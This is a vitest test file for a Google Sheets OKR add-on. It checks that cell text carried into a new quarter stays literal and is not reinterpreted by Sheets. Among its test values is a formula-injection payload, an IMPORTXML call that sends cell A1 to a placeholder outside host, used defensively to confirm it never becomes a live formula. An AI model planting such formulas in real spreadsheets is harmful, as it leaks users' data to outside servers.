// Literal text in every path: a string the add-on copies from the user or writes as a label lands
// as that text, never as a formula, number, date or boolean Sheets would read it as if typed.
// (The local runtime parses typed strings by the locale as Sheets does: test/local/typed.test.ts.)
import { describe, expect, it } from 'vitest';
import type { LocalSheet } from '../../local/index';
import { kr, newBook, templateSheet } from '../server/fixtures';

// Each text is one that Sheets would reinterpret if it were written into a General cell.
const TEXTS: Array<[string, string]> = [
  ['en_US', '=IMPORTXML("http://x/?"&A1,"//a")'],
  ['en_US', '+4915112345678'],
  ['en_US', '1/2'],
  ['en_US', '007'],
  ['en_US', 'TRUE'],
  ['en_US', '10%'],
  ['hu_HU', '1,5'],
  ['en_US', "'quoted"],
];

function asText(sheet: LocalSheet, a1: string, text: string): void {
  const cell = sheet.getRange(a1);
  expect(cell.getFormula(), `${a1} holds no formula`).toBe('');
  expect(cell.getValue(), `${a1} keeps the text`).toBe(text);
}

describe('carry-over keeps the text of every carried cell', () => {
  it.each(TEXTS)('%s: %s', (locale, text) => {
    const { ss, rt } = newBook({ locale });
    const source = templateSheet(ss, 'OKRs 2030-Q3', '2030-Q3', '2030-07-01', '2030-09-30', [
      kr('Growth', 'G-O1', 'Win the market', 'committed', 'Grow sign-ups from 100 to 200', 'Ana', 100, 200, 150),
    ]);
    // The user's own plain-text cells: objective, key result, owner, Start, Notes.
    for (const a1 of ['C7', 'F7', 'G7', 'Q7']) source.getRange(a1).setNumberFormat('@').setValue(text);
    rt.call('sidebarCreateQuarter', {
      calendar: 'gregorian',
      year: 2030,
      quarter: 4,
      teams: [{ name: 'Growth', template: null }],
      start: 'carryOver',
      carryFrom: 'OKRs 2030-Q3',
    });
    const sheet = ss.getSheetByName('OKRs 2030-Q4')!;
    for (const a1 of ['C7', 'F7', 'G7']) asText(sheet, a1, text);
  });

  it('a text Start the user kept as plain text arrives as text, not as a live formula', () => {
    const { ss, rt } = newBook();
    const text = '=IMPORTXML("http://x/?"&A1,"//a")';
    const source = templateSheet(ss, 'OKRs 2030-Q3', '2030-Q3', '2030-07-01', '2030-09-30', [
      kr('Growth', 'G-O1', 'Win the market', 'committed', 'Grow sign-ups from 100 to 200', 'Ana', 100, 200, ''),
    ]);
    source.getRange('I7').setNumberFormat('@').setValue(text);
    rt.call('sidebarCreateQuarter', {
      calendar: 'gregorian',
      year: 2030,
      quarter: 4,
      teams: [{ name: 'Growth', template: null }],
      start: 'carryOver',
      carryFrom: 'OKRs 2030-Q3',
    });
    const sheet = ss.getSheetByName('OKRs 2030-Q4')!;
    const cells = sheet.getRange('A7:Q8').getFormulas().flat();
    expect(cells.some((f) => f.includes('IMPORTXML'))).toBe(false);
  });
});
